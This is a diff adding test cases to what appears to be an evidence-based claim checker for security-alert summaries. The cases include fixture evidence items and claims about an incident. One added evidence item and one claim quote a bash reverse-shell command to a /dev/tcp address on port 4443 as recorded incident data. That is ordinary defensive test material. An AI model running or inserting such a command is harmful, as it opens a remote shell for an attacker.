@@ -38,6 +38,8 @@ const evidence: readonly SentItem[] = [
   item('E9', 'Destination address', '10.0.0.5'),
   item('E10', 'Time', '2026-03-01T10:42:07.000Z'),
   item('E11', 'How often before', 'rule 5710: 0 alerts in the 18 hours before'),
+  item('E12', 'Command', 'bash -i >& /dev/tcp/203.0.113.9/4443 0>&1; Invoke-AtomicTest -FilePath .\\a.txt'),
+  item('E13', 'Network signature', 'ET MALWARE Possible Lateral Movement'),
 ]
 
 function statusOf(text: string, ...ids: readonly string[]): ClaimStatus {
@@ -90,6 +92,13 @@ const cases: readonly (readonly [text: string, cites: string, status: ClaimStatu
   ['Failed passwords came only from 203.0.113.9.', 'E1', 'not-in-evidence'],
   ['No alert of this rule was seen in the 18 hours before.', 'E11', 'verified'],
   ['12 alerts of this rule were seen in the 18 hours before.', 'E11', 'contradicted'],
+  ['The command was bash -i >& /dev/tcp/203.0.113.9/4443 0>&1.', 'E12', 'verified'],
+  ['The command was Invoke-AtomicTest with the flag -FilePath.', 'E12', 'verified'],
+  ['The command was Invoke-MimicTest.', 'E12', 'not-in-evidence'],
+  ['The signature is Possible Lateral Movement.', 'E13', 'verified'],
+  ['The signature is possibly a movement.', 'E13', 'inference'],
+  ['12 alerts at most were raised.', 'E3', 'verified'],
+  ['Most alerts were raised on one host.', 'E3', 'not-in-evidence'],
 ]
 
 describe('judgeClaims', () => {
